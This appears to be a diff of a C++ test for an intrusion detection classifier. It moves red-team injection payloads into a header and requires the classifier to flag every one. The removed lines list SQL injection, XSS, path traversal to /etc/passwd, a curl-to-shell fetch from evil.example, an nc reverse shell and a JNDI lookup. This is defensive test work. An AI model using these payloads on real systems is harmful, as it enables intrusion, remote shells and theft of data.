@@ -15,6 +15,7 @@
 #include <string>
 #include <vector>
 
+#include "attack/injection_payloads.h"
 #include "ids/decision_table.h"
 #include "ids/detection_engine.h"
 #include "ids/ml/http_features.h"
@@ -286,27 +287,15 @@ TEST_F(ClassifierScorerTest, ClassicPayloadsInQueriesAndJsonAreFlagged) {
   }
 }
 
-// The red team's injection scenario (src/attack/scenarios.cc) sends these, each in a query
+// The red team's injection scenario (src/attack/scenarios.cc) sends its payloads
+// (attack/injection_payloads.h), each in a query
 // (GET /api/v1/stats?q=&sort=) and in a login body ({"email","password"}: the e-mail is scored).
 // Each flagged request is one count towards the source's block (5).
 TEST_F(ClassifierScorerTest, TheRedTeamsInjectionPayloadsAreFlagged) {
-  const std::vector<std::string> payloads = {"' OR '1'='1' --",
-                                             "admin'--",
-                                             "1; DROP TABLE readings; --",
-                                             "' UNION SELECT token FROM sessions --",
-                                             "<script>alert(document.cookie)</script>",
-                                             "\"><img src=x onerror=alert(1)>",
-                                             "javascript:alert(1)",
-                                             "../../../../etc/passwd",
-                                             "..%2f..%2f..%2fetc%2fshadow",
-                                             "; cat /etc/passwd",
-                                             "$(curl http://evil.example/x.sh | sh)",
-                                             "| nc -e /bin/sh 10.0.0.1 4444",
-                                             "${jndi:ldap://evil.example/a}",
-                                             "{{7*7}}"};
   std::size_t flagged = 0, tries = 0;
   std::vector<std::string> missed;
-  for (const std::string& p : payloads) {
+  for (const std::string_view payload : attack::kInjectionPayloads) {
+    const std::string p(payload);
     auto query = Get("/api/v1/stats?q=" + UrlEncode(p) + "&sort=" + UrlEncode(p));
     auto login = PostJson("/api/v1/session", nlohmann::json{{"email", p}, {"password", p}}.dump());
     for (const auto* r : {query.get(), login.get()}) {
@@ -321,9 +310,8 @@ TEST_F(ClassifierScorerTest, TheRedTeamsInjectionPayloadsAreFlagged) {
   std::cout << "red-team injection: " << flagged << " of " << tries << " requests flagged; missed:";
   for (const std::string& m : missed) std::cout << " [" << m << "]";
   std::cout << "\n";
-  // Template injection and JNDI lookups have no structure the gate knows (ADR 0041).
-  EXPECT_GE(flagged, tries - 4);
-  EXPECT_GE(flagged, 5u);
+  // Every one, template injection and JNDI lookups included (ADR 0051).
+  EXPECT_EQ(flagged, tries);
 }
 
 // The benign false-positive measurement (docs/ids.md): every request shape the UI sends
@@ -358,8 +346,9 @@ TEST_F(ClassifierScorerTest, BenignUiRequestsAndFreeTextAreNotFlagged) {
   }
   const std::size_t ui_requests = requests;
   EXPECT_GE(ui_requests, 100u);
-  for (const char* file : {"benign_freetext.txt", "benign_freetext_holdout.txt",
-                           "benign_freetext_v2_holdout.txt", "benign_freetext_v3_holdout.txt"}) {
+  for (const char* file :
+       {"benign_freetext.txt", "benign_freetext_holdout.txt", "benign_freetext_v2_holdout.txt",
+        "benign_freetext_v3_holdout.txt", "benign_freetext_v4_braces.txt"}) {
     std::ifstream in(dir + "/" + file);
     ASSERT_TRUE(in) << file;
     while (std::getline(in, line)) {
